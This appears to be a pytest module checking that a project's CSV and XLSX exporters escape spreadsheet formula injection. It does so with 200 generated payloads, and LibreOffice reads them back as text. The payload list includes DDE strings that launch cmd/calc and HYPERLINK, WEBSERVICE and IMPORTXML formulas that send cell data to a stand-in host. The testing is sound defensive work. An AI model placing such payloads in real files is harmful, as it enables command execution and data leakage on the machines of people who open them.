"""200 texts that a spreadsheet could run, through CSV and XLSX: each is read back as text, by two readers."""

import csv
from itertools import product
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from office import needs_office, resaved

from flows.csvfile import read_csv, write_csv
from flows.xlsxfile import write_xlsx

BEGINNINGS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u3000=",
    "\ufeff=", "\u200b=", "\u2060=", "＝", "＋", "－", "＠", "﹦", "−", "'=",
)  # fmt: skip
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://contoh.id/?x="&A1,"klik")',
    "SUM(A1:A9)",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://contoh.id")',
    'IMPORTXML(CONCAT("http://contoh.id/",A1),"//a")',
    "2+5+cmd|' /C notepad'!'A1'",
    "RAND()",
    "1;=2\n=3",
)
PAYLOADS = [beginning + body for beginning, body in product(BEGINNINGS, BODIES)]
NIK = "6402061708850001"

#: Semicolon, quotes, UTF-8, from line 1; quoted fields not as text, special numbers and formulas looked for.
HOSTILE = "CSV:59,34,76,1,,0,false,true,false,false,false,-1,true"
QUOTED_IS_TEXT = "CSV:59,34,76,1,,0,true,false"


@pytest.fixture(scope="module")
def table() -> pd.DataFrame:
    isi = pd.Series(PAYLOADS, dtype="str")
    return pd.DataFrame({"isi": isi, "nik": NIK, "lintang": pd.Series(-0.5, isi.index, dtype="Float64")})


@pytest.fixture(scope="module")
def written(table: pd.DataFrame, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("tulis")
    write_csv(folder / "a.csv", table)
    write_xlsx(folder / "b.xlsx", {"A": table})
    return folder


def payload_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    sheet = openpyxl.load_workbook(path).worksheets[0]
    assert sheet["A1"].value == "isi"
    return [sheet.cell(row, 1) for row in range(2, sheet.max_row + 1)]


def test_there_are_two_hundred_different_ones() -> None:
    assert len(set(PAYLOADS)) == 200


def test_in_csv_each_begins_with_an_apostrophe_and_comes_back_as_it_was(written: Path) -> None:
    with (written / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file, delimiter=";"))
    assert [row["isi"] for row in rows] == ["'" + payload for payload in PAYLOADS]
    # numbers and identifiers are left as they are
    assert {(row["nik"], row["lintang"]) for row in rows} == {(NIK, "-0.5")}
    assert read_csv(written / "a.csv", ["isi"])["isi"].tolist() == PAYLOADS


def test_in_a_workbook_each_is_a_text_cell(written: Path) -> None:
    found = payload_cells(written / "b.xlsx")
    assert {cell.data_type for cell in found} == {"s"}
    assert [cell.value for cell in found] == ["'" + payload for payload in PAYLOADS]
    sheet = openpyxl.load_workbook(written / "b.xlsx").worksheets[0]
    assert (sheet["B2"].data_type, sheet["B2"].value, sheet["C2"].value) == ("s", NIK, "-0.5")


@pytest.mark.parametrize("settings", [HOSTILE, QUOTED_IS_TEXT], ids=["formulas evaluated", "quoted is text"])
@pytest.mark.office
@needs_office
def test_libreoffice_reads_the_csv_as_text(written: Path, tmp_path: Path, settings: str) -> None:
    path = resaved(written / "a.csv", tmp_path, f"--infilter={settings}")
    found = payload_cells(path)
    assert len(found) == len(PAYLOADS)
    assert {cell.data_type for cell in found} == {"s"}
    if settings == QUOTED_IS_TEXT:
        nik = openpyxl.load_workbook(path).worksheets[0]["B2"]
        assert (nik.data_type, nik.value) == ("s", NIK)


@pytest.mark.office
@needs_office
def test_libreoffice_reads_the_workbook_as_text(written: Path, tmp_path: Path) -> None:
    path = resaved(written / "b.xlsx", tmp_path)
    found = payload_cells(path)
    assert len(found) == len(PAYLOADS)
    assert {cell.data_type for cell in found} == {"s"}
    nik = openpyxl.load_workbook(path).worksheets[0]["B2"]
    assert (nik.data_type, nik.value) == ("s", NIK)
